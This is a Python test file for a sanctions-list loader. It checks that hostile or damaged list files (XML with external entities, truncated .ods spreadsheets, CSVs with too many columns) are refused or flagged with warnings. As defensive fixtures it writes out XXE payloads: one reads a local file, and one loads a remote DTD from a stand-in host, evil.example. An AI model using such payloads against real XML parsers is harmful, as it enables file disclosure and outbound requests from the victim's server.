"""Hostile and damaged list files (issue 12, item 11): each says what is wrong."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from tracewire.bounds import MAX_CSV_COLUMNS
from tracewire.errors import InputError, ListFormatError
from tracewire.network.case_csv import load_case_folder
from tracewire.sources.ofac_xml import OfacAdvancedXmlFormat
from tracewire.sources.registry import plan_loads
from tracewire.sources.un import UnXmlFormat

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
SECRET = "TOP-SECRET-FILE-CONTENT"
UN_XXE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE CONSOLIDATED_LIST [
  <!ENTITY xxe SYSTEM "file://{secret}">
]>
<CONSOLIDATED_LIST dateGenerated="2024-01-02T00:00:00Z">
  <INDIVIDUALS>
    <INDIVIDUAL>
      <DATAID>1</DATAID>
      <FIRST_NAME>JOSE &xxe;</FIRST_NAME>
      <UN_LIST_TYPE>Al-Qaida</UN_LIST_TYPE>
      <REFERENCE_NUMBER>QDi.900</REFERENCE_NUMBER>
    </INDIVIDUAL>
  </INDIVIDUALS>
  <ENTITIES/>
</CONSOLIDATED_LIST>
"""


def _parse(path: Path) -> tuple[list[str], str]:
    ((fmt, files),) = plan_loads([path])
    result = fmt.parse(files, "x")
    names = " ".join(n for e in result.entities for n in e.get("name"))
    return [str(w) for w in result.warnings], names


def test_un_external_entity_warns_and_is_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    path = tmp_path / "un.xml"
    path.write_text(UN_XXE.format(secret=secret), encoding="utf-8")
    result = UnXmlFormat().parse([path], "un")
    names = [n for e in result.entities for n in e.get("name")]
    assert names and not any(SECRET in n for n in names)
    (warning,) = [str(w) for w in result.warnings if "external entity" in str(w)]
    assert warning.startswith(f"{path.name}, line 3: external entity 'xxe' (file://{secret})")


def test_ofac_external_entity_warns(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    text = (FIXTURES / "ofac_advanced_min.xml").read_text(encoding="utf-8")
    decl, rest = text.split("\n", 1)
    doctype = '<!DOCTYPE Sanctions [ <!ENTITY % remote PUBLIC "x" "http://evil.example/x.dtd"> ]>'
    path = tmp_path / "sdn_advanced.xml"
    path.write_text(f"{decl}\n{doctype}\n{rest}", encoding="utf-8")
    result = OfacAdvancedXmlFormat().parse([path], "ofac")
    assert result.entities
    assert any(
        "external parameter entity 'remote' (http://evil.example/x.dtd) not loaded" in str(w)
        for w in result.warnings
    )


def _ods(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(
            "mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED
        )
        zf.writestr("content.xml", "<office:document-content>" + "x" * 20_000 + "</office:document-content>", zipfile.ZIP_DEFLATED)  # fmt: skip
    return path


def test_a_truncated_ods_is_called_damaged(tmp_path: Path) -> None:
    whole = _ods(tmp_path / "whole.ods").read_bytes()
    cut = tmp_path / "UK_Sanctions_List.ods"
    cut.write_bytes(whole[: len(whole) // 2])
    with pytest.raises(ListFormatError, match="the .ods spreadsheet is damaged") as refused:
        _parse(cut)
    assert "not a UK Sanctions List" not in str(refused.value)


def test_a_csv_list_with_too_many_columns_is_refused(tmp_path: Path) -> None:
    columns = ["name", "schema", *(f"c{i}" for i in range(MAX_CSV_COLUMNS))]
    path = tmp_path / "wide.csv"
    path.write_text(",".join(columns) + "\nAcme," + "Company" + ",x" * MAX_CSV_COLUMNS + "\n")
    with pytest.raises(ListFormatError, match=f"at most {MAX_CSV_COLUMNS:,}") as refused:
        _parse(path)
    assert refused.value.line == 1


def test_a_case_csv_with_too_many_columns_is_refused(tmp_path: Path) -> None:
    header = ["id", "name", *(f"c{i}" for i in range(MAX_CSV_COLUMNS))]
    (tmp_path / "parties.csv").write_text(
        ",".join(header) + "\np1,Acme" + ",x" * MAX_CSV_COLUMNS + "\n"
    )
    with pytest.raises(InputError, match=f"line 1: the header has {MAX_CSV_COLUMNS + 2:,} columns"):
        load_case_folder(tmp_path)
